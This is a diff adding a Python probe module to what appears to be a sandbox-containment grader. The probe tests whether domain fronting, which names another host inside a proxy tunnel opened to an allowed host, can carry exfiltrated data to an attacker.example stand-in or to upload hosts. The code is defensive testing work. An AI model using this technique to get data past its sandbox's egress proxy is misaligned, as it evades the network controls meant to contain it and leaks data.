@@ -1,0 +1,125 @@
+"""The domain-fronting channel: another host's name inside the tunnel the proxy opened to an allowed host.
+
+Pure. Imports: access, channels, domains, evidence, world and the probe record. Nothing downstream.
+"""
+
+from __future__ import annotations
+
+from grader.core.access import Access
+from grader.core.channels import unknown_name_why
+from grader.core.domains import matches
+from grader.core.evidence import Evidence, Markers, Verdict, attempts, http_hits, net_blocked
+from grader.core.probes.record import OrderContext, Prediction, Probe, Step, allowed_names, fix_network
+from grader.core.world import World
+
+__all__ = ["DOMAIN_FRONTING"]
+
+_FRESH = "x0fresh0x"  # stands for any label the agent invents under a wildcard (as in access.py)
+_FRONTING = (
+    "Behind a CDN that serves many sites at one address, this trick (domain fronting) reaches any site of that "
+    "CDN, and a proxy that decides by host name cannot stop it: it never sees inside TLS. "
+    "The simulated internet has no such shared front."
+)
+
+
+def _front_targets(ctx: OrderContext) -> list[str]:
+    """Where fronted data is aimed: the attacker (a name of this run's own, and the apex) and every upload host."""
+    m = ctx.markers
+    return list(dict.fromkeys([m.fresh_host("front"), m.attacker, *ctx.uploads]))
+
+
+def _front_orders(p: Probe, ctx: OrderContext) -> list[Step]:
+    m = ctx.markers
+    targets = _front_targets(ctx)
+    download_only = [h for h in ctx.hosts if h not in ctx.uploads and h != m.attacker]
+    # every allowed name, and every world host an allowed wildcard matches: real servers to tunnel to
+    matched = [h for a in ctx.allowed if a.startswith("*.") for h in ctx.hosts if matches(a, h)]
+    fronts = [*allowed_names(ctx, "fr"), *matched] or download_only[:1]
+    # first the proxy's own decision on every target, so its log says which of them it refuses
+    steps: list[Step] = [{"op": "front", "connect": t, "port": 443, "attempts": []} for t in targets]
+    for front in dict.fromkeys(fronts):
+        attempts = [a for t in targets if t != front for a in ({"sni": t, "host": t}, {"sni": front, "host": t})]
+        steps.append({"op": "front", "connect": front, "port": 443, "attempts": attempts,
+                      "request_path": m.front_path, "body": m.front_body})
+    return steps
+
+
+def _fronts(access: Access) -> list[tuple[str, str]]:
+    """(entry, name) for every name the agent can open a tunnel to: an allowed exact name, or a made-up name
+    under an allowed wildcard; only names some server answers for."""
+    assert access.policy is not None
+    out = [(a, f"{_FRESH}.{a[2:]}" if a.startswith("*.") else a) for a in access.policy.network.allowedDomains]
+    out += [(a, h) for a in access.policy.network.allowedDomains if a.startswith("*.") for h in access.world.host_names if matches(a, h)]
+    return [(a, n) for a, n in dict.fromkeys(out) if access.reach(n).allowed and access.world.server_of(n) is not None]
+
+
+def _front_predict(p: Probe, access: Access) -> Prediction:
+    world = access.world
+    if access.network == "open":
+        return True, "Ordinary networking: no proxy decides anything by name, and every host is reachable directly anyway."
+    if access.network == "none":
+        return False, "The sandbox has no network at all (allowedDomains is empty)."
+    attacker = world.attacker.name
+    targets = [f"{_FRESH}.{attacker}", attacker, *(h.name for h in world.hosts if h.uploads and not h.attacker)]
+    fronts = _fronts(access)
+    for entry, front in fronts:
+        for t in targets:
+            if t != front and world.server_of(t) == world.server_of(front) and not access.reach(t).allowed:
+                shown = "a name under " + attacker if t.startswith(_FRESH) else t
+                return True, (
+                    f"A tunnel to {entry} reaches the attacker's server ({unknown_name_why(access, entry)}), and that server "
+                    f"answers for the attacker's other names: data named for {shown}, which the proxy refuses, arrives all the same."
+                )
+    names = list(dict.fromkeys(n for _, n in fronts))
+    opened = (", ".join(names[:4]) + (f" and {len(names) - 4} more" if len(names) > 4 else "")) or "no host that answers"
+    return False, (
+        f"The proxy opens a tunnel only to a host it allows ({opened}), and that host's server answers only for its own "
+        f"names: another name inside the tunnel (TLS SNI or HTTP Host) is refused. {_FRONTING}"
+    )
+
+
+def _front_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
+    m = Markers(ev.token, world.attacker.name)
+    let_through = {r.host for r in ev.proxy if r.decision == "allow"}
+    arrived = http_hits(ev, lambda r: m.front_path in r.path and r.misdirected is None)
+    smuggled = [r for r in arrived if r.host not in let_through]
+    if smuggled:
+        firsts = list({r.host: r for r in reversed(smuggled)}.values())[::-1]  # one line per host
+        return "succeeded", f"Data reached {', '.join(sorted(h.host for h in firsts))}, which the proxy never let through.", tuple(
+            f"{r.host} received {r.method} {r.path} "
+            + (f"inside the tunnel the proxy opened to {r.via}" if r.via else "over a connection no proxy decided")
+            for r in firsts[:4]
+        )
+    outcome = net_blocked(p.id, ev, "Every name smuggled into another host's tunnel")
+    if outcome[0] != "blocked" or ev.network == "none":
+        return outcome
+    fronted = [r for r in attempts(ev, p.id) if r.step == "front" and ">" in str(r.target)]
+    late = [r.detail for r in fronted if not r.ok and "timed out" in r.detail.lower()]
+    if late:  # a refusal is fast; silence that ran out of time proves nothing
+        return "error", f"Cannot tell: a fronted request timed out before any answer ({late[0]}). Rerun.", ()
+    inside = [r for r in fronted if "the proxy answered" not in r.detail]  # the tunnel opened; the name inside was tried
+    fronts = {str(r.target).split(">", 1)[0] for r in inside}
+    refused = [r for r in ev.http if r.misdirected is not None and m.front_path in r.path]
+    return "blocked", "Nothing named inside another host's tunnel arrived anywhere the proxy refused.", (
+        f"the proxy opened tunnels to {', '.join(sorted(fronts)) or 'no host'}; inside them {len(inside)} request(s) named "
+        f"another host: the servers refused {len(refused)} outright (421 Misdirected Request) and the rest at the TLS "
+        "handshake; nothing carrying the run's token reached a host the proxy did not let through",
+    )
+
+
+def _front_fix(p: Probe, access: Access) -> str:
+    if access.network == "open":
+        return fix_network(p, access)
+    owned = [a for a in access.policy.network.allowedDomains if access.world.attacker_owns(f"{_FRESH}.{a[2:]}" if a.startswith("*.") else a)] if access.policy else []
+    return (
+        f"remove {', '.join(owned) or 'every name the world does not know'} from network.allowedDomains: "
+        "a tunnel to a name the attacker owns reaches a server that answers for any of the attacker's names"
+    )
+
+
+DOMAIN_FRONTING = Probe(
+    "net-domain-fronting", "attack", "net",
+    "Open a tunnel through the proxy to an allowed host, then name another inside it (TLS SNI and HTTP Host of an "
+    "upload host or attacker.example), hoping the allowed host's server delivers to the other: domain fronting.",
+    _front_orders, _front_predict, _front_judge, _front_fix,
+)
